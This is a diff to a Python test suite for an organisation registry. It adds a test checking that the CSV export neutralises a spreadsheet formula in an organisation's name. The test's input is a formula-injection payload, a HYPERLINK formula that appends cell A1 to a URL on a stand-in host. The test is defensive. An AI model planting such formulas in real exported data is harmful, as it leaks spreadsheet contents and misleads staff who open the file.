@@ -12,6 +12,7 @@ report names, imports, and imports again by mistake.
 from __future__ import annotations
 
 import base64
+import csv
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -342,3 +343,18 @@ def test_a_row_the_coordinator_found_to_be_another_organisation_is_mapped_with_d
         assert osv_import([str(mapping), *connection, *again]) == 0
         assert "0 created, 2 already there, 0 refused" in capsys.readouterr().out
     assert [e["type"] for e in feed(served["registry"].url)].count("OSVMapped") == 2
+
+
+def test_the_osv_list_for_the_forms_never_hands_a_spreadsheet_a_formula(
+    system: tuple[Any, dict[str, ServedApp]], tokens: IssuedTokens, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Staff open ``osvs.csv`` in Excel before attaching it to the forms; an OSV's name came from the field."""
+    _, served = system
+    name = '=HYPERLINK("http://example.org/x?"&A1,"Ver informe")'
+    mapped = httpx.post(f"{served['registry'].url}/osvs", headers={"Authorization": f"Bearer {tokens['staff']}"}, timeout=30,
+                        json={"name": name, "district": "Villa El Salvador", "mapped_on": "2021-08-14"})
+    assert mapped.status_code == 201, mapped.text
+    output = tmp_path / "osvs.csv"
+    assert osv_import(["osvs", "--output", str(output), "--registry-url", served["registry"].url, "--token", tokens["staff"]]) == 0
+    with output.open(encoding="utf-8", newline="") as listed:
+        assert list(csv.reader(listed))[1:] == [[mapped.json()["id"], f"'{name} (Villa El Salvador)"]]  # text, as Excel shows it
